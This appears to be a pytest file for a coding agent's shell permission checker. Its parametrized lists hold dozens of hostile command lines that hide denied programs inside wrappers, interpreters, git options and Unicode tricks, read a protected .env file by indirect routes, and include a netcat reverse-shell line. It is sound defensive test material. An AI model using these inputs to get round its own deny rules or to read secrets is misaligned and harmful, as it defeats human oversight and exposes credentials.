"""Hostile command lines against the read-only check, deny and
ask rules, Read deny rules in Bash, the bare-repository layout and "don't ask again" suggestions.

Each class of problem has several distinct inputs; every one of them got through before.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from claude_mini.permissions import Allow, Ask, CommandPattern, Deny, ExtractionPolicy
from claude_mini.shell.candidates import command_candidates
from claude_mini.shell.parse import MAX_COMMAND_CHARS, parse_command
from claude_mini.shell.read_only import is_read_only_command

from .policies import bash, policy

# ---------------------------------------------------------------- 1. input the parser must not trust

UNUSUAL = [
    "sort -o/tmp/x\ue0ff file",  # the parser's own descriptor marker
    "ls \ue000",  # another private-use character the prescan uses
    "cat a\u200bb",  # zero-width space
    "echo \u202egnp.exe",  # right-to-left override
    "ls\x1b[2K",  # an escape sequence (erases what an approval prompt showed)
    "ls\rrm -rf x",  # a carriage return that overwrites the line
    "ls \U000f0001",  # supplementary private use
    "echo \x00",  # NUL
]


@pytest.mark.parametrize("cmd", UNUSUAL)
def test_unusual_code_points_are_never_read_only(cmd: str) -> None:
    ok, reason = is_read_only_command(cmd)
    assert not ok
    assert "unusual character U+" in reason


@pytest.mark.parametrize("cmd", UNUSUAL)
def test_unusual_code_points_match_every_deny_rule(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(curl:*)"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny)


def test_ordinary_unicode_is_still_fine() -> None:
    assert is_read_only_command("grep -n 'café ünïcødé 日本' notes.txt")[0]
    assert is_read_only_command("ls 'résumé.pdf'")[0]


@pytest.mark.parametrize("digit", ["\u0661", "\u06f2", "\u0967", "\uff11", "\u00b2"])
def test_only_ascii_digits_are_descriptors(digit: str) -> None:
    # `١>/dev/null` is a word plus a redirection in bash: uniq would write to a file named `١`.
    assert parse_command(f"uniq a {digit}>/dev/null")[0].words == ("uniq", "a", digit)
    assert not is_read_only_command(f"uniq a {digit}>/dev/null")[0]


@pytest.mark.parametrize(
    "cmd",
    [
        "date 01010000",
        "date 0101000020",
        "date -s now",
        "date --set=2020-01-01",
        "date -us x",
        "date 12312359.59",
        "date --s=x",
    ],
)
def test_date_that_sets_the_clock(cmd: str) -> None:
    assert not is_read_only_command(cmd)[0]


@pytest.mark.parametrize(
    "cmd",
    [
        "date",
        "date +%s",
        "date -u",
        "date -u +%Y-%m-%d",
        "date -d yesterday +%F",
        "date --date='1 day ago'",
        "date -R",
        "date -Iseconds",
        "date --iso-8601=minutes",
        "date -r README.md",
        "date --rfc-3339=ns",
    ],
)
def test_date_that_only_reads(cmd: str) -> None:
    assert is_read_only_command(cmd)[0], is_read_only_command(cmd)[1]


@pytest.mark.parametrize(
    "cmd",
    [
        "git log --ext-diff -p",
        "git diff --textconv",
        "git show --ext-diff HEAD",
        "git log --output=/tmp/x",
        "git diff --ext",
        "sort -o /tmp/x f",
        "sort -mo/tmp/x f",
        "tree -o out",
        "tree -Ro out",
        "find . -fprintf out x",
        "rg --pre ./x y",
        "uniq in out",
        "file -C -m m",
        "git grep --open-files-in-pager=x y",
    ],
)
def test_writing_or_executing_options_of_allowed_programs(cmd: str) -> None:
    assert not is_read_only_command(cmd)[0]


@pytest.mark.parametrize("cmd", ["git diff --text", "git log --no-ext-diff -p", "git diff --no-textconv"])
def test_harmless_git_options_stay_read_only(cmd: str) -> None:
    assert is_read_only_command(cmd)[0]


def test_long_lines_are_checked_and_over_long_ones_refused() -> None:
    # Speed (20k lines took ~10 s when the prescan was quadratic) is measured by bench_bash_safety.
    line = "\n".join(["ls"] * 20_000)
    assert is_read_only_command(line)[0]
    assert [c.text for c in command_candidates(line)] == ["ls"]
    huge = "ls " + "a" * MAX_COMMAND_CHARS
    ok, reason = is_read_only_command(huge)
    assert not ok and "characters long" in reason
    assert command_candidates(huge)[0].opaque


def test_a_rule_with_many_wildcards_matches_exactly() -> None:
    # It used to compile to `.*a.*a...` and backtrack for minutes; bench_bash_safety shows the time.
    pattern = CommandPattern.parse("a" + "*a" * 40 + "*b")
    assert not pattern.matches("a" * 5_000)
    assert pattern.matches("a" * 41 + "b")
    assert not pattern.matches("a" * 40 + "b")


@pytest.mark.parametrize(
    ("spec", "text", "expected"),
    [
        ("git * main", "git push origin main", True),
        ("git * main", "git push origin dev", False),
        ("ls *", "ls", True),
        ("ls *", "ls -la", True),
        ("ls *", "lsof", False),
        ("npm run:*", "npm run", True),
        ("npm run:*", "npm run build", True),
        ("npm run:*", "npm runner", False),
        ("*", "anything at all", True),
        ("a*b*c", "abc", True),
        ("a*b*c", "acb", False),
        ("a*a", "a", False),
        ("a*a", "aa", True),
    ],
)
def test_wildcard_matching_semantics(spec: str, text: str, expected: bool) -> None:
    assert CommandPattern.parse(spec).matches(text) is expected


# ---------------------------------------------------------------- 2. deny rules see what a line runs

CURL_HIDDEN = [
    "echo 'curl x' | sh",
    "cat script | bash",
    "sh <<< 'curl x'",
    "bash -s < script.sh",
    "bash -c 'curl x'",
    "sudo -iu root curl x",
    "sudo -E -u root curl x",
    "xargs -rI{} curl x",
    "env -iu X curl x",
    "env -S'curl x'",
    "flock /tmp/lock curl x",
    "flock -c 'curl x' /tmp/lock",
    "taskset 0x3 curl x",
    "strace -f -o /tmp/o curl x",
    "script -qc 'curl x' /dev/null",
    "su -c 'curl x' root",
    "chroot /newroot curl x",
    "unshare -rn curl x",
    "nsenter -t 1 -m curl x",
    "timeout -s KILL 5 curl x",
    "nice -n 10 curl x",
    "nohup curl x",
    "ionice -c2 -n7 curl x",
    "ssh host curl x",
    "watch -n1 'curl x'",
    "uv run curl x",
    "npm exec curl x",
    "python -c 'import os; os.system(\"curl x\")'",
    "python3.11 -c 1",
    "perl -e 'system q(curl x)'",
    "ruby -e '`curl x`'",
    'node -e \'require("child_process").execSync("curl x")\'',
    "awk 'BEGIN{system(\"curl x\")}'",
    "sed 's/.*/curl x/e' f",
    "git -c alias.x='!curl x' x",
    "GIT_SSH_COMMAND='curl x' git fetch",
    "cur? x",
    "{curl,x}",
    "$(printf curl) x",
    "trap 'curl x' EXIT",
]


@pytest.mark.parametrize("cmd", CURL_HIDDEN)
def test_deny_rules_match_what_the_line_can_run(root: Path, cmd: str) -> None:
    p = policy(root, ("managed", {"deny": ["Bash(curl:*)"]}), mode="bypassPermissions")
    decision = p.can_use_tool("Bash", bash(cmd))
    assert isinstance(decision, Deny), (cmd, decision)


GIT_PUSH = [
    "git -C . push",
    "git -c a=b push",
    "git --git-dir=.git push",
    "git --git-dir .git --work-tree . push",
    "git --no-pager push",
    "git -P push origin main",
    "git -c alias.p=push p",
    "git --namespace x push",
    "sudo git -C /repo push",
]


@pytest.mark.parametrize("cmd", GIT_PUSH)
def test_git_global_options_do_not_hide_the_subcommand(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(git push:*)"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "git -c core.pager='curl x' log",
        "git -c core.fsmonitor=./x status",
        "git -c credential.helper='!curl x' fetch",
        "git --exec-path=/tmp log",
    ],
)
def test_git_settings_that_name_programs_are_unknowable(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(curl:*)"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "grep -rn curl src",
        "command -v curl",
        "echo curl",
        "python3 -m pytest -q -k curl",
        "git log --grep=curl",
        "bash scripts/build.sh",
        "uv run pytest -k curl",
        "sort -k2 curl.txt",
    ],
)
def test_deny_rules_do_not_match_mere_mentions(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(curl:*)"], "allow": ["Bash"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow), cmd


@pytest.mark.parametrize("cmd", ["git push", "echo hi | sh", "python -c 1", "git -C . push"])
def test_ask_rules_hold_in_bypass_mode(root: Path, cmd: str) -> None:
    p = policy(root, ("managed", {"ask": ["Bash(git push:*)"]}), mode="bypassPermissions")
    decision = p.can_use_tool("Bash", bash(cmd))
    assert isinstance(decision, Ask), (cmd, decision)
    assert "managed rule" in decision.reason


def test_bypass_mode_still_allows_what_no_rule_covers(root: Path) -> None:
    p = policy(root, ("managed", {"ask": ["Bash(git push:*)"]}), mode="bypassPermissions")
    assert isinstance(p.can_use_tool("Bash", bash("npm install")), Allow)


# ---------------------------------------------------------------- 6. Read deny rules in Bash


@pytest.fixture
def secret_repo(root: Path) -> Path:
    (root / ".env").write_text("DB_PASSWORD=hunter2\n")
    (root / "src" / "app.py").write_text("print(1)\n")
    (root / "secrets" / "key.pem").write_text("k\n")
    return root


@pytest.mark.parametrize(
    "cmd",
    [
        "cat .en?",
        "cat .e*",
        "head -n1 .[e]nv",
        "cat {.env,README}",
        "grep -r PASSWORD .",
        "grep -Rn x",
        "rg PASSWORD",
        "rg x .",
        "diff -r . ..",
        "git grep PASSWORD",
        "git show HEAD:.env",
        "git show :.env",
        "git show HEAD:./.env",
        "cat ./src/../.env",
        "less .env",
    ],
)
def test_read_deny_rules_hold_for_bash(secret_repo: Path, cmd: str) -> None:
    p = policy(secret_repo, ("project", {"deny": ["Read(.env)"]}))
    decision = p.can_use_tool("Bash", bash(cmd))
    assert isinstance(decision, Ask), (cmd, decision)
    p.mode = "bypassPermissions"
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd


@pytest.mark.parametrize("cmd", ["cat src/*.py", "grep -r x src", "rg x src", "git show HEAD:src/app.py"])
def test_read_deny_rules_leave_other_reads_alone(secret_repo: Path, cmd: str) -> None:
    p = policy(secret_repo, ("project", {"deny": ["Read(.env)", "Read(./secrets/**)"]}))
    decision = p.can_use_tool("Bash", bash(cmd))
    assert isinstance(decision, Allow), (cmd, decision)


def test_recursive_search_asks_only_where_a_denied_file_exists(secret_repo: Path) -> None:
    p = policy(secret_repo, ("project", {"deny": ["Read(.env)"]}))
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x src")), Allow)
    (secret_repo / "src" / ".env").write_text("TOKEN=x\n")
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x src")), Ask)


def test_anchored_read_deny_rule_and_recursive_search(secret_repo: Path) -> None:
    p = policy(secret_repo, ("project", {"deny": ["Read(./secrets/**)"]}))
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x .")), Ask)
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x secrets")), Ask)
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x src")), Allow)


# ---------------------------------------------------------------- 7. the bare-repository layout


@pytest.mark.parametrize(
    ("existing", "target"),
    [
        (["HEAD", "objects/x"], "refs/heads/main"),
        (["objects/x", "refs/x"], "HEAD"),
        (["HEAD"], "config"),
        (["HEAD", "refs/x"], "objects/ab/cdef"),
        (["config"], "HEAD"),
    ],
)
def test_writing_a_bare_repository_layout_asks_in_accept_edits(root: Path, existing: list[str], target: str) -> None:
    folder = root / "src" / "evil"
    for part in existing:
        (folder / part).parent.mkdir(parents=True, exist_ok=True)
        (folder / part).write_text("x")
    p = policy(root, mode="acceptEdits")
    decision = p.can_use_tool("Write", {"file_path": str(folder / target), "content": "x"})
    assert isinstance(decision, Ask), decision
    extraction = ExtractionPolicy(folder)
    assert isinstance(extraction.can_use_tool("Write", {"file_path": str(folder / target), "content": "x"}), Deny)


@pytest.mark.parametrize("target", ["config/routes.rb", "src/HEAD.md", "refs/notes.md", "objects/readme.txt"])
def test_ordinary_files_with_git_like_names_are_not_protected(root: Path, target: str) -> None:
    p = policy(root, mode="acceptEdits")
    assert isinstance(p.can_use_tool("Write", {"file_path": str(root / target), "content": "x"}), Allow)


# ---------------------------------------------------------------- 10. suggestions


@pytest.mark.parametrize(
    ("cmd", "rule"),
    [
        ("python -m pytest -q", "Bash(python -m pytest:*)"),
        ("python3 -m pip list", "Bash(python3 -m pip:*)"),
        ("python script.py", "Bash(python script.py)"),
        ("bash -c 'make'", "Bash(bash -c 'make')"),
        ("env FOO=1 make", "Bash(env FOO=1 make)"),
        ("find . -name x -delete", "Bash(find . -name x -delete)"),
        ("xargs -n1 echo", "Bash(xargs -n1 echo)"),
        ("sudo apt install x", "Bash(sudo apt install x)"),
        ("node -e 1", "Bash(node -e 1)"),
        ("git -C sub push", "Bash(git -C sub push)"),
        ("uv run python -c 1", "Bash(uv run python -c 1)"),
        ("npm run test -- -x", "Bash(npm run test:*)"),
        ("make build", "Bash(make build:*)"),
        ("perl -e 1", "Bash(perl -e 1)"),
    ],
)
def test_suggestions_are_never_wider_than_the_command(root: Path, cmd: str, rule: str) -> None:
    p = policy(root)
    assert p.suggest_rule("Bash", bash(cmd)) == rule
    p.add_session_allow(rule)
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow)


@pytest.mark.parametrize(
    ("cmd", "wider"),
    [
        ("python -m pytest -q", "python -c 'import os'"),
        ("bash -c 'make'", "bash -c 'rm -rf /'"),
        ("git -C sub push", "git push --force"),
    ],
)
def test_a_suggested_rule_does_not_allow_other_commands(root: Path, cmd: str, wider: str) -> None:
    p = policy(root)
    p.add_session_allow(p.suggest_rule("Bash", bash(cmd)))
    assert isinstance(p.can_use_tool("Bash", bash(wider)), Ask)


@pytest.mark.parametrize(
    ("cmd", "rule"),
    [("python -c 'unterminated", "Bash(python)"), ("git log 'x", "Bash(git)"), ("make 'x", "Bash(make)")],
)
def test_unparseable_suggestions_fall_back_to_the_bare_program(root: Path, cmd: str, rule: str) -> None:
    assert policy(root).suggest_rule("Bash", bash(cmd)) == rule


# ---------------------------------------------------------------- found by a review after the first round


@pytest.mark.parametrize(
    "cmd",
    [
        "git grep -e -- -e '' -O'touch P'",
        "sort --random-source -- -S 1k --compress-program=sh f",
        "sort -T -- -o pwned a",
        "file -F -- -C -m m",
        "git describe --dirty",
        "git describe --broken",
    ],
)
def test_a_double_dash_that_is_an_option_value_does_not_end_the_options(cmd: str) -> None:
    assert not is_read_only_command(cmd)[0]


TOUCH_HIDDEN = [
    "time -p touch P",
    "function f { touch P; }; f",
    "coproc X { touch P; }; wait",
    "shopt -s expand_aliases; alias t=touch\nt P",
    "echo $(case a in a) touch P;; esac)",
    "nice {touch,P}",
    "time {touch,P}",
    "! {touch,P}",
    "env /usr/bin/tou?h P",
    "echo 'touch P' | xargs -0 sh -c",
    "echo touch P | xargs env",
    "find /usr/bin -name touch -exec {} P \\;",
    "echo 'touch P' | bash -",
    "echo x | sh /dev/stdin",
    "bash <(echo touch P)",
    "source <(echo touch P)",
    ". /dev/stdin <<< 'touch P'",
    "python3 - <<< 'import os'",
    "perl -le 'system q(touch P)'",
    "perl -ne 1",
    "python3 -Sc 'import os'",
    "env -iS'touch P'",
    "env --split-s='touch P'",
    "git -c alias.a=b -c alias.b='!touch P' a",
    "git ls-remote --upload-pack='touch P;' .",
    "git -c trailer.s.command='touch P' interpret-trailers",
    "git rebase --exec 'touch P' HEAD~1",
    "git difftool -y -x 'touch P;:' HEAD~1",
    "HOME=. git status",
    "XDG_CONFIG_HOME=cfg git status",
    "sed -n '1!e touch P' f",
    "sed '/b/Ie touch P' f",
    "tar --checkpoint-action=exec='touch P' -cf /dev/null f",
    "tar --to-command='touch P' -xf a.tar",
    "tar -I 'touch P' -xf a",
    "zip -T -TT 'touch P' a.zip f",
    "gdb -batch -ex 'shell touch P'",
    "vim -es -c '!touch P' -c q",
    "make -f - <<< 'all:; touch P'",
    "make --eval='x:=$(shell touch P)'",
    "scp -o ProxyCommand='touch P' a b:",
    "ssh -oProxyCommand=x h",
    "LESSOPEN='|touch P %s' less f",
    "busybox touch P",
    "git bisect run touch P",
    "git submodule foreach 'touch P'",
    "man -P 'touch P' ls",
    "nc -e /bin/sh h 1",
    "awk '{@f()}'",
    "rsync -e 'touch P' a b:",
]


@pytest.mark.parametrize("cmd", TOUCH_HIDDEN)
def test_deny_rules_see_through_what_the_review_found(root: Path, cmd: str) -> None:
    p = policy(root, ("managed", {"deny": ["Bash(touch:*)"]}), mode="bypassPermissions")
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "make build",
        "make -f Makefile.ci test",
        "git log --grep=touch",
        "ssh host ls",
        "tar -xzf a.tgz",
        "perl script.pl",
        "node app.js",
        "git rebase main",
        "sed 's/e/x/' f",
        "sed -e 's/a/b/' f",
        "awk '{print $1}' f",
        "source .venv/bin/activate && pytest",
        "git add -u",
        "git cherry-pick -x abc",
        "vim file",
        "less README.md",
    ],
)
def test_ordinary_commands_do_not_match_an_unrelated_deny_rule(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(touch:*)"], "allow": ["Bash"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow), cmd


@pytest.fixture
def tracked_secret(root: Path) -> Path:
    import subprocess

    (root / ".env").write_text("SECRET=1\n")
    (root / "src" / "a.py").write_text("x\n")
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    subprocess.run(["git", "add", "-f", ".env", "src/a.py"], cwd=root, check=True)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "i"], cwd=root, check=True)
    return root


@pytest.mark.parametrize(
    "cmd",
    [
        "grep --directories recurse SECRET .",
        "grep --dir=recurse SECRET .",
        "grep --directories=rec SECRET .",
        "grep -e -- -r -e SECRET .",
        "diff -N . src",
        "git diff --no-index . ..",
        "file -f.env",
        "cat ~+/.env",
        "cat /proc/self/cwd/.env",
        'git show "HEAD@{1 year ago}:.env"',
        "git log -p",
        "git show HEAD",
    ],
)
def test_read_deny_rules_hold_for_what_the_review_found(tracked_secret: Path, cmd: str) -> None:
    p = policy(tracked_secret, ("project", {"deny": ["Read(.env)"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Ask), cmd


def test_history_views_ask_only_when_a_denied_file_is_tracked(tracked_secret: Path) -> None:
    p = policy(tracked_secret, ("project", {"deny": ["Read(./secrets/**)"]}))
    assert isinstance(p.can_use_tool("Bash", bash("git log -p")), Allow)
    assert isinstance(
        policy(tracked_secret, ("project", {"deny": ["Read(.env)"]})).can_use_tool("Bash", bash("git log --oneline")),
        Allow,
    )


def test_hostile_repetition_is_bounded(root: Path) -> None:
    """Each folder is searched once and a wrapper's command start is looked for in a few places
    (these inputs took 18 s and 111 s; bench_bash_safety times them)."""
    (root / ".env").write_text("X=1\n")
    p = policy(root, ("project", {"deny": ["Read(.env)", "Bash(curl:*)"]}))
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x" + " ." * 400)), Ask)
    assert isinstance(p.can_use_tool("Bash", bash("grep -r x" + " src" * 400)), Allow)
    candidates = command_candidates("sudo" + " 1" * 10_000)
    assert len(candidates) <= 10 and any(c.opaque and "too many operands" in c.opaque for c in candidates)
    assert isinstance(p.can_use_tool("Bash", bash("sudo" + " 1" * 10_000)), Deny)


@pytest.mark.parametrize(
    "cmd", ["grep -rn ProxyCommand docs", "echo LocalCommand", "coproc sleep 1", "function build { make; }; build"]
)
def test_mentions_of_ssh_options_and_bash_syntax_are_not_unknowable(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(touch:*)"], "allow": ["Bash"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow), cmd


# ---------------------------------------------------------------- found by the second review


@pytest.mark.parametrize(
    "cmd",
    ["find . $\\\n'-delete'", "git log $\\\n'--output=x'", "sort $\\\n'-o' out f", "cat $\\\n'.env'", "cat <\\\n(ls)"],
)
def test_a_line_continuation_after_a_dollar_or_redirection_is_refused(cmd: str) -> None:
    ok, reason = is_read_only_command(cmd)
    assert not ok and "line continuation" in reason


@pytest.mark.parametrize(
    "cmd",
    [
        "bash $\\\n'-c' 'touch P'",
        'echo $(echo "\\")" ; touch P)',
        "exec 3<<<'touch P'; sh <&3",
        "sh /dev/fd//0 <<< 'touch P'",
        "sh /proc/thread-self/fd/0 <<< 'touch P'",
        "source /dev/./stdin <<< 'touch P'",
        "awk -f /dev/stdin f <<< 'BEGIN{system(\"touch P\")}'",
        "make --file=/dev/stdin <<< 'all:;touch P'",
        "make -f /dev/fd/0 <<< 'all:;touch P'",
        "ed -s f <<< '!touch P'",
        "vim -es f <<< '!touch P'",
        "sqlite3 :memory: '.shell touch P'",
        "git grep -O'touch P' -e a",
        "git ls-remote --upload-p='touch P;' .",
        "GIT_SSH_COMMAND='touch P' git fetch",
        "git -c core.pager='touch P' log",
        "EDITOR='touch P' crontab -e",
    ],
)
def test_deny_rules_see_through_what_the_second_review_found(root: Path, cmd: str) -> None:
    p = policy(root, ("managed", {"deny": ["Bash(touch:*)"]}), mode="bypassPermissions")
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "cat .en[[:alpha:]]",
        "cat .en[^x]",
        "cat .en{u..w}",
        "echo -ne '\\x2eenv\\0' | sort --files0-from=-",
        "git log -U1",
        "git log --unified=1",
        "git log --binary",
        "git log -L1,1:.env",
        "cat /proc//self/cwd/.env",
    ],
)
def test_read_deny_rules_hold_for_what_the_second_review_found(tracked_secret: Path, cmd: str) -> None:
    p = policy(tracked_secret, ("project", {"deny": ["Read(.env)"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Ask), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "[ -f package.json ] && npm install",
        "[[ -d x ]] || mkdir x",
        "{ make; make test; } 2>&1 | tee build.log",
        "DEBUG=* npm start",
        'docker run --rm -v "$PWD:/app" python:3.12 pytest',
        "ssh $HOST uptime",
        "git diff --name-only | xargs -r npx eslint",
        "echo ' a b ' | xargs",
        "awk -F@ '{print $2}' emails.txt",
        "python manage.py shell -c 'print(1)'",
        "GIT_PAGER=cat git log -5",
        "GIT_EDITOR=true git rebase --continue",
        "git -c core.editor=true rebase --continue",
        "PYTHONPATH=. pytest",
        "cat x |\\\n grep y",
        "sudo -u $USER ls",
    ],
)
def test_everyday_commands_are_not_caught_by_an_unrelated_deny_rule(root: Path, cmd: str) -> None:
    p = policy(root, ("user", {"deny": ["Bash(touch:*)"], "allow": ["Bash"]}))
    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow), cmd
